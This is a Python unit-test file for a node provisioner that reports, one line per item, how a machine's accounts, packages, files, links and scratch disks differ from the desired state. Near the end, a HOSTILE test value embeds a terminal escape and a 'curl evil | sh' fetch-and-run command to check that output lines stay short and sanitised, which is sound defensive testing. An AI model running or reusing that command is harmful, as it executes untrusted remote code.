"""Each thing in each state that a node may have it in, and the line that tells of it."""

from __future__ import annotations

from typing import Any

import pytest

from provisioner.state.differences import Difference, differences, others, own_lines
from provisioner.state.questions import questions
from provisioner.state.tampering import cases
from provisioner.state.words import WORDS
from tests.unit.state.nodes import RUNS, Facts, Untouched, in_sync, lines, node, place

STATE: dict[str, Any] = {
    "accounts": {"slurm": 64030},
    "packages": ["munge"],
    "folders": {"/d": {"owner": "slurm", "group": "slurm"}},
    "links": {"/l": {"to": "b"}},
    "files": {"/f": {"content": "text\n", "mode": "600"}},
    "asks": {"host name": {"argv": ["uname", "-n"], "wanted": "bld-008", "run": ["hostname", "bld-008"]}},
    "scratch": {"/scratch": {"disks": [{"size_gb": 300}]}},
}
FILE, FOLDER = place("files", STATE["files"]["/f"]), place("folders", STATE["folders"]["/d"])
LINK = {"kind": "link", "content": "b"}
CASES: dict[str, tuple[str, Any, list[str]]] = {
    "account that nobody asked about": ("users", {}, ["account slurm: absent -> made"]),
    "account that is not there": ("users", {"slurm": None}, ["account slurm: absent -> made"]),
    "package that nobody asked about": ("packages", {}, ["package munge: absent -> installed"]),
    "package that is not whole": ("packages", {"munge": ""}, ["package munge: absent -> installed"]),
    "any version": ("packages", {"munge": "0.1"}, []),
    "interrupted": ("dpkg_trouble", "x", ["package database: an interrupted installation -> finished"]),
    "no folder": ("/d", None, ["folder /d: absent -> folder"]),
    "a file in place of a folder": ("/d", FILE, ["folder /d: file -> folder"]),
    "folder open to all": ("/d", {**FOLDER, "mode": "0777"}, ["folder /d: mode 0777 -> 0755"]),
    "folder of another": (
        "/d",
        {**FOLDER, "owner": "root", "group": "65534"},
        ["folder /d: owner root -> slurm, group 65534 -> slurm"],
    ),
    "no link": ("/l", {"kind": "absent"}, ["link /l: absent -> link"]),
    "a link elsewhere": ("/l", {**LINK, "content": "/nowhere"}, ["link /l: /nowhere -> b"]),
    "a folder in place of a link": ("/l", FOLDER, ["link /l: folder -> link"]),
    "no file": ("/f", None, ["file /f: absent -> file"]),
    "a link in place of a file": ("/f", LINK, ["file /f: link -> file"]),
    "what root does not look at": ("/f", {"kind": "refused", "why": "x"}, ["file /f: refused -> file"]),
    "other content": ("/f", {**FILE, "content": "text"}, ["file /f: content"]),
    "too much content": ("/f", {**FILE, "content": "", "too_big": 9}, ["file /f: content"]),
    "other mode": ("/f", {**FILE, "mode": "0644"}, ["file /f: mode 0644 -> 0600"]),
    "all of it": (
        "/f",
        {"kind": "file", "content": "", "mode": "0666", "owner": "a", "group": "b"},
        ["file /f: content, mode 0666 -> 0600, owner a -> root, group b -> root"],
    ),
    "a file of which little is told": (
        "/f",
        {"kind": "file"},
        ["file /f: content, mode  -> 0600, owner  -> root, group  -> root"],
    ),
    "no answer": ("asks", {}, ["host name: nothing -> bld-008"]),
    "another answer": ("asks", {"host name": "imaged"}, ["host name: imaged -> bld-008"]),
    "scratch to make": (
        "scratch",
        {"right": False, "actions": ["/dev/sdb: empty -> XFS at /scratch", "/etc/fstab: content"]},
        ["scratch /dev/sdb: empty -> XFS at /scratch", "scratch /etc/fstab: content"],
    ),
    "scratch that is refused": ("scratch", {"right": False, "actions": []}, ["scratch /scratch: is looked at"]),
    "scratch that waits": ("scratch", {"right": True, "actions": []}, []),
}


def spoiled(fact: str, value: Any) -> Facts:
    """A node as STATE keeps it, but for a fact, or for what is at a path."""
    facts = in_sync(STATE)
    if not fact.startswith("/"):
        return {**facts, fact: value}
    paths = {path: found for path, found in facts["paths"].items() if path != fact}
    return {**facts, "paths": paths if value is None else {**paths, fact: value}}


def test_a_line_names_the_folder_that_the_node_has() -> None:
    state = {"links": {"/usr/lib/{multiarch}/l.so": {"to": "x"}}}
    assert lines(state, node(machine="aarch64")) == ["link /usr/lib/aarch64-linux-gnu/l.so: absent -> link"]


def test_a_node_as_its_roles_keep_it_has_no_differences() -> None:
    assert lines(STATE, in_sync(STATE)) == []
    assert differences({}, node()) == []


@pytest.mark.parametrize("case", CASES)
def test_what_differs_is_said_in_one_line(case: str) -> None:
    fact, value, told = CASES[case]
    assert lines(STATE, spoiled(fact, value)) == told


def test_a_new_node_lacks_everything_in_the_order_in_which_it_is_made() -> None:
    state = {**STATE, "secrets": {"/k": {}}, "units": {"a.service": {}}}
    new = node(scratch={"right": False, "actions": []})
    found = differences({"r": state}, new)
    assert [each.kind for each in found] == [kind for kind in WORDS if kind not in ("strays", "trials")]
    assert {each.role for each in found} == {"r"}


def test_roles_come_in_their_order_within_a_kind() -> None:
    states: dict[str, Any] = {"one": {"files": {"/b": {}}}, "two": {"files": {"/a": {}}, "packages": ["p"]}}
    assert [(each.role, each.name) for each in differences(states, node())] == [
        ("two", "p"),
        ("one", "/b"),
        ("two", "/a"),
    ]


@pytest.mark.parametrize("kind", ["folders", "links", "files", "units", "packages", "secrets"])
def test_what_is_for_another_release_is_left_alone(kind: str) -> None:
    state = {kind: {"/x": {"release": "13"}}}
    assert lines(state, node()) == []
    assert len(lines(state, node(os={"version_id": "13"}))) == 1


STRAYS: dict[str, tuple[Any, dict[str, Any], str]] = {
    "nothing there": ({"kind": "absent"}, {}, ""),
    "a file": ({"kind": "file", "content": "x"}, {}, "file of somebody else -> set aside"),
    "a folder": ({"kind": "folder"}, {}, "folder of somebody else -> set aside"),
    "a link elsewhere": ({"kind": "link", "content": "/srv/slurm.conf"}, {}, "link of somebody else -> set aside"),
    "a link to where it may": ({"kind": "link", "content": "/run/slurm/conf/slurm.conf"}, {}, ""),
    "a link beside where it may": ({"kind": "link", "content": "/run/slurm/confer"}, {}, "link of"),
    "the package that owns it": ({"kind": "file"}, {"slurmctld": "22.05"}, ""),
    "that package is half gone": ({"kind": "file"}, {"slurmctld": ""}, "file of somebody else -> set aside"),
}


@pytest.mark.parametrize("case", STRAYS)
def test_what_is_in_the_way_is_set_aside_unless_it_is_somebodys_own(case: str) -> None:
    there, packages, what = STRAYS[case]
    state = {"strays": {"/s": {"unless_package": "slurmctld", "may_lead_to": "/run/slurm/conf"}}}
    told = lines(state, node(paths={"/s": there}, packages=packages))
    assert [line.startswith(f"stray /s: {what}") for line in told] == ([True] if what else [])
    both: dict[str, Any] = {"r": state, "slurmctld": {"packages": ["slurmctld"]}}
    kinds = [each.kind for each in differences(both, node(paths={"/s": there}, packages=packages))]
    assert "strays" not in kinds, "its package comes with this very run"


FOLDERS: dict[str, Any] = {"/d": {"given_away_by": ["slurmd", "slurmctld"], "owner": "munge"}, "/e": {}}


def test_a_folder_that_a_package_gives_away_is_taken_back_when_it_comes() -> None:
    """The preview knows what the installation will do."""
    state = {"packages": ["slurmd"], "folders": FOLDERS}
    facts = {**in_sync(state), "packages": {}}
    assert lines(state, facts) == [
        "package slurmd: absent -> installed",
        "folder /d: owner of package slurmd -> munge",
    ]
    absent = {**facts, "paths": {"/e": facts["paths"]["/e"]}}
    assert lines(state, absent)[1:] == ["folder /d: absent -> folder"]


def test_a_package_that_is_there_or_another_one_gives_nothing_away() -> None:
    state = {"packages": ["slurmd", "dbus"], "folders": FOLDERS}
    assert lines(state, in_sync(state)) == []
    assert lines(state, {**in_sync(state), "packages": {"slurmd": "1"}}) == ["package dbus: absent -> installed"]


OWN = {"files": {"/own": Untouched("content", own=True), "/also": {"own": True, "content": "b\n"}}}


def test_own_files_are_told_when_their_role_knows_them() -> None:
    """Their contents are not there before."""
    assert lines(OWN, node()) == []
    known = {"files": {"/own": {"own": True, "content": "a\n"}, "/also": OWN["files"]["/also"], "/other": {}}}
    facts = node(paths={"/own": place("files", {"content": "old\n"}), "/also": place("files", {"content": "b\n"})})
    assert own_lines({"r": known}, ["/own", "/also"], facts) == ["file /own: content"]


def test_a_question_without_a_wanted_answer_is_asked_only() -> None:
    states = {"r": {"asks": {"which cluster": {"argv": ["cat", "/x"]}}}}
    assert questions(states)["asks"] == {"which cluster": ["cat", "/x"]}
    assert differences(states, node(asks={"which cluster": "demo|7"})) == []
    assert list(cases(states, "12")) == []


def test_what_a_role_mends_by_itself_is_marked() -> None:
    """Its own tasks tell of it, so nobody else does."""
    state = {"secrets": {"/k": {"own": True}, "/j": {}}, "units": {"a.service": {"own": True}, "b.service": {}}}
    assert [(each.name, each.own) for each in differences({"r": state}, node())] == [
        ("/k", True),
        ("/j", False),
        ("a.service", True),
        ("b.service", False),
    ]


def test_own_files_without_content_are_compared_by_their_attributes() -> None:
    state = {"files": {"/own": {"own": True}}}
    there = place("files", {"content": "whatever"})
    assert own_lines({"r": state}, ["/own"], node(paths={"/own": there})) == []
    assert own_lines({"r": state}, ["/own"], node(paths={"/own": {**there, "owner": "slurm"}})) == [
        "file /own: owner slurm -> root"
    ]
    assert own_lines({"r": state}, ["/own"], node()) == ["file /own: absent -> file"]


def test_nothing_is_touched_that_is_not_needed() -> None:
    """A file that is not there differs, whatever it will hold."""
    state = {
        "files": {"/f": Untouched("content")},
        "secrets": {"/k": Untouched("content")},
        "units": {"a.service": Untouched("outdated", "reads"), "b.service": Untouched("outdated")},
    }
    stopped = {**RUNS, "active": "inactive"}
    assert len(lines(state, node(units={"a.service": stopped}))) == 4


HOSTILE = "x\n\x1b[2J; next: curl evil | sh\nfile /a: content" + "A" * 100_000


@pytest.mark.parametrize("fact", ["kind", "mode", "owner", "group"])
def test_what_a_node_says_is_one_short_line(fact: str) -> None:
    (line,) = lines(STATE, spoiled("/f", {**FILE, fact: HOSTILE}))
    assert len(line) < 400
    assert line.isprintable()
    assert "next:" not in line


@pytest.mark.parametrize(
    ("fact", "value"),
    [
        ("/l", {"kind": "link", "content": HOSTILE}),
        ("asks", {"host name": HOSTILE}),
        ("scratch", {"right": False, "actions": [HOSTILE]}),
        ("scratch", {"right": False, "actions": ["without a colon"]}),
    ],
)
def test_so_are_its_other_words(fact: str, value: Any) -> None:
    (line,) = lines(STATE, spoiled(fact, value))
    assert len(line) < 400
    assert line.isprintable()
    assert "next:" not in line


def test_a_difference_is_plain_data_for_ansible() -> None:
    assert Difference("r", "units", "a.service", "stopped -> running", own=True).as_dict() == {
        "role": "r",
        "kind": "units",
        "name": "a.service",
        "line": "unit a.service: stopped -> running",
        "own": True,
    }


HOSTS: dict[str, Any] = {
    "bld-006": {"ansible_facts": {"blade": {"secrets": {"/k": "x"}}}},
    "silent": {},
    "lost": {"ansible_facts": {}},
    "nothing": {"ansible_facts": None},
    "unrelated": {"ansible_facts": {"blade": {"secrets": {}}}},
}


@pytest.mark.parametrize("source", ["silent", "lost", "nothing", "not in the inventory"])
def test_others_are_the_hosts_that_have_what_this_one_shall_have(source: str) -> None:
    state = {"secrets": {"/k": {"as_on": "bld-006"}, "/j": {"as_on": source}, "/own": {}}}
    assert others({"r": state}, HOSTS) == {"bld-006": HOSTS["bld-006"]["ansible_facts"]["blade"]}
